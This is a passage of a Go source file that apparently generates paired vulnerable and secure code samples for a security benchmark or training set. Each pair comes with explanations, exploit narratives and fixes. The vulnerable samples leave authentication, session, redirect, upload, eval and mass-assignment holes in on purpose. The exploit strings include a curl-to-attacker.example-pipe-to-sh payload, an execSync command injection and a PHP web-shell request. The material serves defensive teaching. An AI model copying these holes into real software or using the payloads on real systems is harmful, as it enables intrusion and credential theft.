			Fix:           "Attach requireAuth (and the admin role check) to every route of the router, or mount the router behind router.use(requireAuth) so new routes are covered by default.",
			Remediation:   []string{"Apply authentication at the router or app level with explicit public exceptions.", "Add a test that enumerates registered routes and asserts each is protected.", "Log and alert on destructive calls without a principal."},
			Preconditions: []string{"Network access to the API."},
		},
		{
			Archetype: "missing-authentication", Language: "java", Framework: "spring-boot",
			Levels:   []Difficulty{Advanced, RealWorldEnterprise},
			FilePath: "src/main/java/com/example/{{.Entities}}/config/ApiSecurityConfig.java",
			Vulnerable: `package com.example.{{.Entities}}.config;

import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.http.HttpMethod;
import org.springframework.security.config.Customizer;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.config.http.SessionCreationPolicy;
import org.springframework.security.web.SecurityFilterChain;

@Configuration
public class ApiSecurityConfig {

    @Bean
    SecurityFilterChain apiChain(HttpSecurity http) throws Exception {
        http
            .sessionManagement(s -> s.sessionCreationPolicy(SessionCreationPolicy.STATELESS))
            .csrf(csrf -> csrf.disable())
            .authorizeHttpRequests(auth -> auth
                .requestMatchers(HttpMethod.GET, "{{.Endpoint}}/catalog/**").permitAll()
                .requestMatchers("{{.Prefix}}/internal/{{.Entities}}/**").permitAll()⟪v⟫
                .requestMatchers("/actuator/**").permitAll()⟪v⟫
                .anyRequest().authenticated())
            .oauth2ResourceServer(oauth -> oauth.jwt(Customizer.withDefaults()));
        return http.build();
    }
}
`,
			Secure: `package com.example.{{.Entities}}.config;

import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.http.HttpMethod;
import org.springframework.security.config.Customizer;
import org.springframework.security.config.annotation.web.builders.HttpSecurity;
import org.springframework.security.config.http.SessionCreationPolicy;
import org.springframework.security.web.SecurityFilterChain;

@Configuration
public class ApiSecurityConfig {

    @Bean
    SecurityFilterChain apiChain(HttpSecurity http) throws Exception {
        http
            .sessionManagement(s -> s.sessionCreationPolicy(SessionCreationPolicy.STATELESS))
            .csrf(csrf -> csrf.disable())
            .authorizeHttpRequests(auth -> auth
                .requestMatchers(HttpMethod.GET, "{{.Endpoint}}/catalog/**").permitAll()
                .requestMatchers("{{.Prefix}}/internal/{{.Entities}}/**").hasAuthority("SCOPE_{{.Entities}}.internal")
                .requestMatchers("/actuator/health", "/actuator/info").permitAll()
                .anyRequest().authenticated())
            .oauth2ResourceServer(oauth -> oauth.jwt(Customizer.withDefaults()));
        return http.build();
    }
}
`,
			Explanation:   "The \"internal\" {{.Entity}} API and every actuator endpoint are permitAll, on the assumption that only the service mesh reaches them; once the ingress or a neighbour routes to them, anyone can call the internal operations and read /actuator/env or /actuator/heapdump.",
			Exploit:       "From any foothold that reaches the pod (or through a mis-scoped ingress), GET /actuator/heapdump yields a heap with JWT signing material and database credentials, and POST {{.Prefix}}/internal/{{.Entities}}/rebuild runs without a token.",
			Fix:           "Require a service token with a dedicated scope for the internal API and expose only the health and info actuator endpoints anonymously.",
			Remediation:   []string{"Authenticate service-to-service calls (client-credentials JWT or mTLS) instead of trusting the network.", "Limit management.endpoints.web.exposure.include to health,info and serve management on a separate port.", "Review every permitAll matcher in code review."},
			Preconditions: []string{"Network path to the service (a foothold in the cluster or an ingress that forwards the paths)."},
		},
		{
			Archetype: "missing-brute-force-protection", Language: "typescript", Framework: "nestjs",
			Levels:   []Difficulty{Intermediate, Advanced},
			FilePath: "src/auth/{{.Entity}}-auth.controller.ts",
			Vulnerable: `import { Body, Controller, HttpCode, Post, UnauthorizedException } from "@nestjs/common";
import { AuthService } from "./auth.service";
import { LoginDto } from "./dto/login.dto";

@Controller("{{.Prefix}}/auth")
export class {{.EntityPascal}}AuthController {
  constructor(private readonly auth: AuthService) {}

  @Post("login")
  @HttpCode(200)
  async login(@Body() dto: LoginDto) {⟪v⟫
    const user = await this.auth.validate(dto.email, dto.password);⟪v⟫
    if (!user) {
      throw new UnauthorizedException("Invalid credentials");
    }
    return this.auth.issueTokens(user, "{{.Entities}}");
  }
}
`,
			Secure: `import { Body, Controller, HttpCode, Ip, Post, UnauthorizedException, UseGuards } from "@nestjs/common";
import { Throttle, ThrottlerGuard } from "@nestjs/throttler";
import { AuthService } from "./auth.service";
import { LoginDto } from "./dto/login.dto";

@Controller("{{.Prefix}}/auth")
export class {{.EntityPascal}}AuthController {
  constructor(private readonly auth: AuthService) {}

  @Post("login")
  @HttpCode(200)
  @UseGuards(ThrottlerGuard)
  @Throttle({ default: { limit: 5, ttl: 60_000 } })
  async login(@Body() dto: LoginDto, @Ip() ip: string) {
    const user = await this.auth.validateWithLockout(dto.email, dto.password, ip);
    if (!user) {
      throw new UnauthorizedException("Invalid credentials");
    }
    return this.auth.issueTokens(user, "{{.Entities}}");
  }
}
`,
			Explanation:   "The login handler checks a password on every request without limiting attempts per client or per account, so the endpoint answers an unbounded stream of guesses.",
			Exploit:       "The attacker sprays a list of leaked passwords against {{.Prefix}}/auth/login for known e-mail addresses at hundreds of requests per second until one returns tokens.",
			Fix:           "Throttle the route per client with @nestjs/throttler and track failures per account with progressive lockout or delay inside validateWithLockout.",
			Remediation:   []string{"Rate-limit login per IP and per account, with exponential back-off.", "Add MFA and breached-password checks.", "Alert on spikes of failed logins."},
			Preconditions: []string{"Network access to the login endpoint.", "Knowledge or guesses of valid account identifiers."},
		},
		{
			Archetype: "missing-brute-force-protection", Language: "php", Framework: "laravel",
			Levels:   []Difficulty{Intermediate, Expert},
			FilePath: "routes/auth.php",
			Vulnerable: `<?php

use App\Http\Controllers\Auth\LoginController;
use App\Http\Controllers\Auth\PasswordResetController;
use App\Http\Controllers\Auth\TwoFactorController;
use App\Http\Controllers\{{.EntityPascal}}Controller;
use Illuminate\Support\Facades\Route;

Route::middleware('guest')->group(function () {
    Route::get('/login', [LoginController::class, 'create'])->name('login');
    Route::post('/login', [LoginController::class, 'store']);⟪v⟫
    Route::post('/two-factor-challenge', [TwoFactorController::class, 'verify']);⟪v⟫
    Route::get('/forgot-password', [PasswordResetController::class, 'create'])->name('password.request');
    Route::post('/forgot-password', [PasswordResetController::class, 'store'])->middleware('throttle:6,1');
});

Route::middleware('auth')->prefix('{{.Entities}}')->group(function () {
    Route::get('/', [{{.EntityPascal}}Controller::class, 'index'])->name('{{.Entities}}.index');
    Route::get('/{{"{"}}{{.Entity}}{{"}"}}', [{{.EntityPascal}}Controller::class, 'show'])->name('{{.Entities}}.show');
});
`,
			Secure: `<?php

use App\Http\Controllers\Auth\LoginController;
use App\Http\Controllers\Auth\PasswordResetController;
use App\Http\Controllers\Auth\TwoFactorController;
use App\Http\Controllers\{{.EntityPascal}}Controller;
use Illuminate\Support\Facades\Route;

Route::middleware('guest')->group(function () {
    Route::get('/login', [LoginController::class, 'create'])->name('login');
    Route::post('/login', [LoginController::class, 'store'])->middleware('throttle:5,1');
    Route::post('/two-factor-challenge', [TwoFactorController::class, 'verify'])->middleware('throttle:5,1');
    Route::get('/forgot-password', [PasswordResetController::class, 'create'])->name('password.request');
    Route::post('/forgot-password', [PasswordResetController::class, 'store'])->middleware('throttle:6,1');
});

Route::middleware('auth')->prefix('{{.Entities}}')->group(function () {
    Route::get('/', [{{.EntityPascal}}Controller::class, 'index'])->name('{{.Entities}}.index');
    Route::get('/{{"{"}}{{.Entity}}{{"}"}}', [{{.EntityPascal}}Controller::class, 'show'])->name('{{.Entities}}.show');
});
`,
			Explanation:   "Password reset is throttled, but the password login and the two-factor challenge are not: both accept unlimited attempts, so passwords can be guessed and the six-digit TOTP code brute-forced within its validity window.",
			Exploit:       "After a credential-stuffing hit, the attacker replays POST /two-factor-challenge with codes 000000-999999 in parallel; without a limit the million-code space is covered well inside a session's lifetime.",
			Fix:           "Apply Laravel's throttle middleware to the login and two-factor routes (per-IP), and key a RateLimiter on the e-mail as well for per-account limits.",
			Remediation:   []string{"Throttle every authentication step, not only password reset.", "Define named limiters keyed on account and IP in AppServiceProvider.", "Invalidate the pending two-factor session after a few failures."},
			Preconditions: []string{"Network access to the login routes.", "For the two-factor attack, a valid password for the account."},
		},
		{
			Archetype: "session-fixation", Language: "java", Framework: "jakarta-servlet",
			Levels:   []Difficulty{Intermediate, Advanced},
			FilePath: "src/main/java/com/example/{{.Entities}}/web/{{.EntityPascal}}LoginServlet.java",
			Vulnerable: `package com.example.{{.Entities}}.web;

import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.servlet.http.HttpSession;
import java.io.IOException;

@WebServlet("/{{.Entity}}-portal/login")
public class {{.EntityPascal}}LoginServlet extends HttpServlet {
    private final UserDirectory users = UserDirectory.shared();

    @Override
    protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        User user = users.authenticate(req.getParameter("username"), req.getParameter("password"));
        if (user == null) {
            resp.sendRedirect(req.getContextPath() + "/{{.Entity}}-portal/login?error");
            return;
        }
        HttpSession session = req.getSession();⟪v⟫
        session.setAttribute("userId", user.id());
        session.setAttribute("roles", user.roles());
        resp.sendRedirect(req.getContextPath() + "/{{.Entity}}-portal/{{.Entities}}");
    }
}
`,
			Secure: `package com.example.{{.Entities}}.web;

import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.servlet.http.HttpSession;
import java.io.IOException;

@WebServlet("/{{.Entity}}-portal/login")
public class {{.EntityPascal}}LoginServlet extends HttpServlet {
    private final UserDirectory users = UserDirectory.shared();

    @Override
    protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws IOException {
        User user = users.authenticate(req.getParameter("username"), req.getParameter("password"));
        if (user == null) {
            resp.sendRedirect(req.getContextPath() + "/{{.Entity}}-portal/login?error");
            return;
        }
        HttpSession session = renewSession(req);
        session.setAttribute("userId", user.id());
        session.setAttribute("roles", user.roles());
        resp.sendRedirect(req.getContextPath() + "/{{.Entity}}-portal/{{.Entities}}");
    }

    private static HttpSession renewSession(HttpServletRequest req) {
        HttpSession previous = req.getSession(false);
        if (previous != null) {
            previous.invalidate();
        }
        return req.getSession(true);
    }
}
`,
			Explanation:   "After a successful login the servlet stores the user in whatever session the request already carried; the session id issued before authentication stays valid afterwards, so an id planted by an attacker becomes an authenticated session.",
			Exploit:       "The attacker obtains a JSESSIONID from the portal, plants it in the victim's browser (a ;jsessionid= link, a cookie set from a sibling subdomain), waits for the victim to log in, then uses the same id as the victim.",
			Fix:           "Invalidate the pre-login session and create a new one (or call request.changeSessionId()) before storing the authenticated identity.",
			Remediation:   []string{"Rotate the session id on every privilege change (login, role switch).", "Disable URL session tracking (tracking-mode COOKIE) and set HttpOnly, Secure, SameSite cookies.", "Prefer the container's or Spring Security's built-in login handling, which rotates the id."},
			Preconditions: []string{"The attacker can set or predict the victim's session id before login.", "The victim logs in with that session."},
		},
		{
			Archetype: "session-fixation", Language: "javascript", Framework: "express",
			Levels:   []Difficulty{Advanced, RealWorldEnterprise},
			FilePath: "src/routes/{{.Entity}}-login.js",
			Vulnerable: `const express = require("express");
const { verifyCredentials } = require("../services/users");

const router = express.Router();

router.post("{{.Prefix}}/login", express.urlencoded({ extended: false }), async (req, res, next) => {
  try {
    const user = await verifyCredentials(req.body.username, req.body.password);
    if (!user) {
      return res.status(401).render("login", { error: "Invalid credentials" });
    }
    req.session.userId = user.id;⟪v⟫
    req.session.{{.Param}} = user.{{.Param}};
    return res.redirect("/{{.Entities}}");
  } catch (err) {
    return next(err);
  }
});

module.exports = router;
`,
			Secure: `const express = require("express");
const { verifyCredentials } = require("../services/users");

const router = express.Router();

router.post("{{.Prefix}}/login", express.urlencoded({ extended: false }), async (req, res, next) => {
  try {
    const user = await verifyCredentials(req.body.username, req.body.password);
    if (!user) {
      return res.status(401).render("login", { error: "Invalid credentials" });
    }
    return req.session.regenerate((err) => {
      if (err) {
        return next(err);
      }
      req.session.userId = user.id;
      req.session.{{.Param}} = user.{{.Param}};
      return req.session.save((saveErr) => (saveErr ? next(saveErr) : res.redirect("/{{.Entities}}")));
    });
  } catch (err) {
    return next(err);
  }
});

module.exports = router;
`,
			Explanation:   "express-session keeps the session id the browser presented before login; the handler writes userId into that same session, so a pre-login id known to an attacker becomes authenticated.",
			Exploit:       "The attacker visits the site to get a connect.sid, injects it into the victim's browser through a compromised sibling subdomain that sets a parent-domain cookie, and after the victim signs in reuses the cookie to act as the victim across the {{.Entities}} app.",
			Fix:           "Call req.session.regenerate() after verifying the credentials and store the identity in the new session before redirecting.",
			Remediation:   []string{"Regenerate the session on login and on privilege changes; destroy it on logout.", "Use __Host- prefixed, Secure, HttpOnly, SameSite cookies so sibling subdomains cannot set them.", "Expire idle and absolute session lifetimes server-side."},
			Preconditions: []string{"The attacker can plant a cookie in the victim's browser (sibling subdomain, XSS elsewhere or a network position).", "The victim logs in afterwards."},
		},
	}
}

func webAuthRedirectUploadCode() []Generator {
	return []Generator{
		{
			Archetype: "open-redirect", Language: "java", Framework: "spring-boot",
			Levels:   []Difficulty{Beginner, Intermediate},
			FilePath: "src/main/java/com/example/{{.Entities}}/web/{{.EntityPascal}}TenantController.java",
			Vulnerable: `package com.example.{{.Entities}}.web;

import jakarta.servlet.http.HttpSession;
import org.springframework.stereotype.Controller;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.RequestParam;

@Controller
public class {{.EntityPascal}}TenantController {
    private final TenantService tenants;

    public {{.EntityPascal}}TenantController(TenantService tenants) {
        this.tenants = tenants;
    }

    @GetMapping("/{{.Entities}}/switch-tenant")
    public String switchTenant(@RequestParam String tenant,
                               @RequestParam(name = "next", defaultValue = "/{{.Entities}}") String next,
                               HttpSession session) {
        session.setAttribute("tenant", tenants.requireMembership(tenant));
        return "redirect:" + next;⟪v⟫
    }
}
`,
			Secure: `package com.example.{{.Entities}}.web;

import jakarta.servlet.http.HttpSession;
import org.springframework.stereotype.Controller;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.RequestParam;

@Controller
public class {{.EntityPascal}}TenantController {
    private final TenantService tenants;

    public {{.EntityPascal}}TenantController(TenantService tenants) {
        this.tenants = tenants;
    }

    @GetMapping("/{{.Entities}}/switch-tenant")
    public String switchTenant(@RequestParam String tenant,
                               @RequestParam(name = "next", defaultValue = "/{{.Entities}}") String next,
                               HttpSession session) {
        session.setAttribute("tenant", tenants.requireMembership(tenant));
        return "redirect:" + localPathOrDefault(next);
    }

    private static String localPathOrDefault(String next) {
        boolean local = next.startsWith("/") && !next.startsWith("//") && !next.contains("\\")
                && next.chars().noneMatch(Character::isISOControl);
        return local ? next : "/{{.Entities}}";
    }
}
`,
			Explanation:   "The next parameter is appended to a redirect: view name without any check, so the application issues a 302 to whatever absolute or protocol-relative URL the link carries.",
			Exploit:       "A phishing mail links to https://{{.Host}}/{{.Entities}}/switch-tenant?tenant=acme&next=https://{{.Host}}.login-check.example/ — the trusted domain in the link redirects the victim to a look-alike login page that harvests credentials.",
			Fix:           "Redirect only to local paths: require a single leading slash, reject // and backslashes and control characters, otherwise fall back to a default page.",
			Remediation:   []string{"Accept only relative paths or ids mapped to known destinations for post-action redirects.", "Centralise redirect validation in one helper used by every controller.", "Add tests with //evil, /\\evil and https://evil inputs."},
			Preconditions: []string{"The victim follows an attacker-crafted link."},
		},
		{
			Archetype: "open-redirect", Language: "php", Framework: "plain-php",
			Levels:   []Difficulty{Intermediate, RealWorldEnterprise},
			FilePath: "public/login.php",
			Vulnerable: `<?php
declare(strict_types=1);

require __DIR__ . '/../src/bootstrap.php';

session_start();

$email = (string) ($_POST['email'] ?? '');
$password = (string) ($_POST['password'] ?? '');
$returnTo = (string) ($_GET['return_to'] ?? '/{{.Entities}}');

$user = $auth->attempt($email, $password);
if ($user === null) {
    header('Location: /login.php?error=1&return_to=' . urlencode($returnTo));
    exit;
}

session_regenerate_id(true);
$_SESSION['user_id'] = $user->id;
$_SESSION['{{.Param}}'] = $user->{{.Param}};
header('Location: ' . $returnTo);⟪v⟫
exit;
`,
			Secure: `<?php
declare(strict_types=1);

require __DIR__ . '/../src/bootstrap.php';

session_start();

$email = (string) ($_POST['email'] ?? '');
$password = (string) ($_POST['password'] ?? '');
$returnTo = (string) ($_GET['return_to'] ?? '/{{.Entities}}');
$isLocal = str_starts_with($returnTo, '/') && !str_starts_with($returnTo, '//')
    && !str_contains($returnTo, '\\') && !preg_match('/[\x00-\x1f]/', $returnTo);

$user = $auth->attempt($email, $password);
if ($user === null) {
    header('Location: /login.php?error=1&return_to=' . urlencode($returnTo));
    exit;
}

session_regenerate_id(true);
$_SESSION['user_id'] = $user->id;
$_SESSION['{{.Param}}'] = $user->{{.Param}};
header('Location: ' . ($isLocal ? $returnTo : '/{{.Entities}}'));
exit;
`,
			Explanation:   "The login page sends the browser to return_to after authentication without checking that it is a local path, so the trusted login flow ends on any site the link names.",
			Exploit:       "The attacker sends https://{{.Host}}/login.php?return_to=https://{{.Host}}.session-expired.example/login; the victim signs in on the genuine page, lands on the attacker's clone saying the session expired, and types the password again.",
			Fix:           "Accept return_to only when it is a single-slash local path without backslashes or control characters, otherwise use the default page.",
			Remediation:   []string{"Validate redirect targets before storing or using them.", "Where cross-domain returns are needed (SSO), match against an exact allow-list of origins.", "Log rejected redirect targets to spot phishing campaigns."},
			Preconditions: []string{"The victim follows an attacker-crafted login link and signs in."},
		},
		{
			Archetype: "unrestricted-file-upload", Language: "csharp", Framework: "aspnet-core",
			Levels:   []Difficulty{Advanced, RealWorldEnterprise},
			FilePath: "src/{{.EntitiesPascal}}.Web/Controllers/{{.EntityPascal}}AttachmentsController.cs",
			Vulnerable: `using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Mvc;

namespace Example.{{.EntitiesPascal}}.Controllers;

[ApiController]
[Authorize]
[Route("{{.Endpoint}}/{id:int}/attachments")]
public class {{.EntityPascal}}AttachmentsController : ControllerBase
{
    private readonly IWebHostEnvironment _env;

    public {{.EntityPascal}}AttachmentsController(IWebHostEnvironment env) => _env = env;

    [HttpPost]
    public async Task<IActionResult> Upload(int id, IFormFile file)
    {
        var dir = Path.Combine(_env.WebRootPath, "uploads", "{{.Entities}}", id.ToString());⟪v⟫
        Directory.CreateDirectory(dir);
        var path = Path.Combine(dir, file.FileName);⟪v⟫
        await using var stream = System.IO.File.Create(path);⟪v⟫
        await file.CopyToAsync(stream);
        return Created($"/uploads/{{.Entities}}/{id}/{file.FileName}", null);⟪v⟫
    }
}
`,
			Secure: `using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Mvc;

namespace Example.{{.EntitiesPascal}}.Controllers;

[ApiController]
[Authorize]
[Route("{{.Endpoint}}/{id:int}/attachments")]
public class {{.EntityPascal}}AttachmentsController : ControllerBase
{
    private static readonly HashSet<string> AllowedExtensions = new(StringComparer.OrdinalIgnoreCase) { ".pdf", ".png", ".jpg" };
    private readonly string _storageRoot;

    public {{.EntityPascal}}AttachmentsController(IConfiguration config) =>
        _storageRoot = config["Storage:AttachmentsRoot"] ?? throw new InvalidOperationException("Storage:AttachmentsRoot missing");

    [HttpPost]
    [RequestSizeLimit(10_000_000)]
    public async Task<IActionResult> Upload(int id, IFormFile file)
    {
        var ext = Path.GetExtension(file.FileName);
        if (file.Length == 0 || !AllowedExtensions.Contains(ext))
        {
            return BadRequest("unsupported file type");
        }
        var dir = Path.Combine(_storageRoot, "{{.Entities}}", id.ToString());
        Directory.CreateDirectory(dir);
        var stored = $"{Guid.NewGuid():N}{ext.ToLowerInvariant()}";
        await using var stream = System.IO.File.Create(Path.Combine(dir, stored));
        await file.CopyToAsync(stream);
        return Created($"{{.Endpoint}}/{id}/attachments/{stored}", null);
    }
}
`,
			Explanation:   "Attachments are written under wwwroot, which UseStaticFiles serves from the application's origin, using the client-supplied file name with no type, size or name checks; .html/.svg files run script as the app and ../ in the name writes outside the folder.",
			Exploit:       "A low-privileged user uploads invoice.html containing script (or names the part ../../wwwroot/js/site.js); every colleague who opens /uploads/{{.Entities}}/5/invoice.html runs the attacker's JavaScript with their session, and an overwritten site.js hits every page.",
			Fix:           "Store uploads outside the web root under server-generated names, allow only expected extensions, cap the size, and serve files through an authorised download action.",
			Remediation:   []string{"Never place user uploads under wwwroot.", "Generate storage names server-side and keep the original name only as metadata.", "Verify content signatures, scan files, and serve downloads with Content-Disposition: attachment and nosniff."},
			Preconditions: []string{"An authenticated account allowed to upload attachments.", "Other users or the site itself load files from /uploads."},
		},
		{
			Archetype: "unrestricted-file-upload", Language: "php", Framework: "laravel",
			Levels:   []Difficulty{Beginner, Intermediate},
			FilePath: "app/Http/Controllers/{{.EntityPascal}}AttachmentController.php",
			Vulnerable: `<?php

namespace App\Http\Controllers;

use App\Models\{{.EntityPascal}};
use Illuminate\Http\Request;

class {{.EntityPascal}}AttachmentController extends Controller
{
    public function store(Request $request, {{.EntityPascal}} ${{.Entity}})
    {
        $this->authorize('update', ${{.Entity}});
        $request->validate(['file' => ['required', 'file']]);⟪v⟫

        $file = $request->file('file');
        $path = $file->storeAs(⟪v⟫
            '{{.Entities}}/' . ${{.Entity}}->id,
            $file->getClientOriginalName(),⟪v⟫
            'public'⟪v⟫
        );

        ${{.Entity}}->attachments()->create(['path' => $path, '{{.Field}}' => $request->input('{{.Field}}')]);

        return back()->with('status', 'Attachment uploaded.');
    }
}
`,
			Secure: `<?php

namespace App\Http\Controllers;

use App\Models\{{.EntityPascal}};
use Illuminate\Http\Request;

class {{.EntityPascal}}AttachmentController extends Controller
{
    public function store(Request $request, {{.EntityPascal}} ${{.Entity}})
    {
        $this->authorize('update', ${{.Entity}});
        $request->validate(['file' => ['required', 'file', 'mimes:pdf,png,jpg', 'max:10240']]);

        $file = $request->file('file');
        $path = $file->store('{{.Entities}}/' . ${{.Entity}}->id, 'local');

        ${{.Entity}}->attachments()->create(['path' => $path, '{{.Field}}' => $request->input('{{.Field}}')]);

        return back()->with('status', 'Attachment uploaded.');
    }
}
`,
			Explanation:   "Any file type is accepted and stored on the public disk under its original name; storage/app/public is linked to public/storage, which PHP-FPM serves, so an uploaded .php file is executed on request.",
			Exploit:       "A user allowed to edit one {{.Entity}} uploads shell.php, then requests /storage/{{.Entities}}/12/shell.php?c=id and runs commands as the web server.",
			Fix:           "Validate the type and size with mimes/max rules and store with store() on a private disk, which generates a random name with an extension derived from the content.",
			Remediation:   []string{"Keep uploads on a non-public disk and stream them through an authorised controller.", "Never use getClientOriginalName() as the storage name.", "Configure the web server not to execute PHP under the storage directory."},
			Preconditions: []string{"An account authorised to update a {{.Entity}}."},
		},
		{
			Archetype: "code-injection", Language: "ruby", Framework: "rails",
			Levels:   []Difficulty{Advanced, Expert},
			FilePath: "app/controllers/{{.Entity}}_pricing_controller.rb",
			Vulnerable: `class {{.EntityPascal}}PricingController < ApplicationController
  before_action :authenticate_user!

  INPUTS = %w[quantity unit_price discount tax_rate].freeze

  def preview
    record = current_user.{{.Entities}}.find(params[:id])
    formula = params.require(:formula)
    values = INPUTS.index_with { |name| record.public_send(name).to_d }
    total = eval(formula, binding_with(values))⟪v⟫
    render json: { id: record.id, {{.Field}}: record.{{.Field}}, total: total.round(2) }
  rescue ArgumentError, ZeroDivisionError => e
    render json: { error: e.message }, status: :unprocessable_entity
  end

  private

  def binding_with(values)⟪v⟫
    scope = binding⟪v⟫
    values.each { |name, value| scope.local_variable_set(name, value) }
    scope
  end
end
`,
			Secure: `class {{.EntityPascal}}PricingController < ApplicationController
  before_action :authenticate_user!

  INPUTS = %w[quantity unit_price discount tax_rate].freeze

  def preview
    record = current_user.{{.Entities}}.find(params[:id])
    formula = params.require(:formula).to_s
    values = INPUTS.index_with { |name| record.public_send(name).to_d }
    total = Dentaku::Calculator.new.evaluate!(formula, values)
    render json: { id: record.id, {{.Field}}: record.{{.Field}}, total: total.round(2) }
  rescue Dentaku::Error, ArgumentError, ZeroDivisionError => e
    render json: { error: e.message }, status: :unprocessable_entity
  end
end
`,
			Explanation:   "The pricing formula supplied by the client is passed to Kernel#eval with a binding that also exposes the controller, so any Ruby expression runs inside the Rails process, not just arithmetic on the {{.Entity}} inputs.",
			Exploit:       "A signed-in user POSTs formula=File.read('/proc/self/environ') or formula=system('curl https://attacker.example/x | sh') to the preview action and executes code on the application server.",
			Fix:           "Evaluate formulas with a dedicated expression engine (Dentaku) that supports only arithmetic and the named inputs, never eval.",
			Remediation:   []string{"Remove eval, instance_eval and send with user-controlled input.", "Use a sandboxed formula language with an explicit variable set.", "Add a RuboCop Security/Eval rule to CI."},
			Preconditions: []string{"Any authenticated account that can open a {{.Entity}} pricing preview."},
		},
		{
			Archetype: "code-injection", Language: "javascript", Framework: "express",
			Levels:   []Difficulty{Intermediate, Expert},
			FilePath: "src/routes/{{.Entity}}-filter.js",
			Vulnerable: `const express = require("express");

const router = express.Router();

router.get("{{.Endpoint}}/filter", async (req, res, next) => {
  try {
    const where = String(req.query.where || "true");
    const predicate = new Function("{{.Entity}}", "return (" + where + ");");⟪v⟫
    const {{.Entities}} = await req.app.locals.repo.{{.Func}}({ {{.Param}}: req.query.{{.Param}} });
    return res.json({{.Entities}}.filter((item) => predicate(item)));⟪v⟫
  } catch (err) {
    return next(err);
  }
});

module.exports = router;
`,
			Secure: `const express = require("express");

const router = express.Router();

const OPS = {
  eq: (a, b) => String(a) === b,
  ne: (a, b) => String(a) !== b,
  gt: (a, b) => Number(a) > Number(b),
  lt: (a, b) => Number(a) < Number(b),
};
const FIELDS = new Set(["{{.Field}}", "{{.Param}}", "createdAt"]);

router.get("{{.Endpoint}}/filter", async (req, res, next) => {
  try {
    const { field, op, value } = req.query;
    if (!FIELDS.has(field) || !Object.hasOwn(OPS, op) || typeof value !== "string") {
      return res.status(400).json({ error: "unsupported filter" });
    }
    const {{.Entities}} = await req.app.locals.repo.{{.Func}}({ {{.Param}}: req.query.{{.Param}} });
    return res.json({{.Entities}}.filter((item) => OPS[op](item[field], value)));
  } catch (err) {
    return next(err);
  }
});

module.exports = router;
`,
			Explanation:   "The where query parameter is compiled into a JavaScript function with new Function, which is eval: the expression runs with full Node.js privileges, not just as a filter over {{.Entities}}.",
			Exploit:       "GET {{.Endpoint}}/filter?where=process.mainModule.require('child_process').execSync('id').length>0 executes a shell command on the server; other payloads read environment secrets or open a reverse shell.",
			Fix:           "Replace dynamic code with a structured filter: an allow-listed field, an operator looked up in a fixed table, and a string value.",
			Remediation:   []string{"Ban eval, new Function and vm.runInContext on request data (eslint no-eval, no-new-func).", "Express filters as data (field/op/value) and validate each part.", "Run the service with least privilege to limit the blast radius."},
			Preconditions: []string{"Network access to the filter endpoint."},
		},
		{
			Archetype: "mass-assignment", Language: "typescript", Framework: "nestjs",
			Levels:   []Difficulty{Intermediate, Advanced, RealWorldEnterprise},
			FilePath: "src/{{.Entities}}/{{.Entities}}.controller.ts",
			Vulnerable: `import { Body, Controller, Param, ParseIntPipe, Patch, Req, UseGuards } from "@nestjs/common";
import { InjectRepository } from "@nestjs/typeorm";
import { Repository } from "typeorm";
import { JwtAuthGuard } from "../auth/jwt-auth.guard";
import { {{.EntityPascal}} } from "./{{.Entity}}.entity";

@Controller("{{.Entities}}")
@UseGuards(JwtAuthGuard)
export class {{.EntitiesPascal}}Controller {
  constructor(@InjectRepository({{.EntityPascal}}) private readonly repo: Repository<{{.EntityPascal}}>) {}

  @Patch(":id")
  async update(
    @Param("id", ParseIntPipe) id: number,
    @Body() body: Partial<{{.EntityPascal}}>,⟪v⟫
    @Req() req: { user: { id: number } },
  ) {
    const record = await this.repo.findOneByOrFail({ id, ownerId: req.user.id });
    Object.assign(record, body);⟪v⟫
    return this.repo.save(record);
  }
}
`,
			Secure: `import { Body, Controller, Param, ParseIntPipe, Patch, Req, UseGuards, ValidationPipe } from "@nestjs/common";
import { InjectRepository } from "@nestjs/typeorm";
import { IsOptional, IsString, MaxLength } from "class-validator";
import { Repository } from "typeorm";
import { JwtAuthGuard } from "../auth/jwt-auth.guard";
import { {{.EntityPascal}} } from "./{{.Entity}}.entity";

export class Update{{.EntityPascal}}Dto {
  @IsOptional() @IsString() @MaxLength(200) {{.Field}}?: string;
  @IsOptional() @IsString() @MaxLength(64) {{.Param}}?: string;
}

@Controller("{{.Entities}}")
@UseGuards(JwtAuthGuard)
export class {{.EntitiesPascal}}Controller {
  constructor(@InjectRepository({{.EntityPascal}}) private readonly repo: Repository<{{.EntityPascal}}>) {}

  @Patch(":id")
  async update(
    @Param("id", ParseIntPipe) id: number,
    @Body(new ValidationPipe({ whitelist: true, forbidNonWhitelisted: true })) dto: Update{{.EntityPascal}}Dto,
    @Req() req: { user: { id: number } },
  ) {
    const record = await this.repo.findOneByOrFail({ id, ownerId: req.user.id });
    this.repo.merge(record, dto);
    return this.repo.save(record);
  }
}
`,
			Explanation:   "The PATCH body is typed as Partial<{{.EntityPascal}}> but nothing validates it at runtime; Object.assign copies every property the client sends onto the TypeORM entity, including ownerId, approval flags or prices.",
			Exploit:       "The owner of {{.Entity}} 5 sends PATCH /{{.Entities}}/5 with {\"{{.Field}}\":\"x\",\"ownerId\":77,\"approved\":true}; the record is approved without review or moved into another account.",
			Fix:           "Bind the body to a DTO listing the editable fields and run ValidationPipe with whitelist and forbidNonWhitelisted before merging it into the entity.",
			Remediation:   []string{"Use explicit update DTOs per use case; never bind request bodies to entities.", "Enable a global ValidationPipe with whitelist: true.", "Add tests that send protected properties and expect 400."},
			Preconditions: []string{"An authenticated account that owns at least one {{.Entity}}."},
		},
		{
			Archetype: "mass-assignment", Language: "csharp", Framework: "aspnet-core",
			Levels:   []Difficulty{Advanced, Expert},
